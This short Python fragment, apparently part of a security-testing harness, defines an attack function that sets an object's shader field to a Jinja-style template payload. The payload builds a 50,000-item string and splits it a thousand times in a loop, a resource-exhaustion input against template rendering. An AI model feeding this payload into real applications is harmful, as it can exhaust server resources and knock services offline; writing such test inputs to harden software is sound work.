# attack.txt says what this tries.
def attack(p):
    p.shader = "{% set n = namespace(s='" + "x," * 50000 + "') %}{% for i in range(1000) %}{% set l = n.s.split(',') %}{% endfor %}"
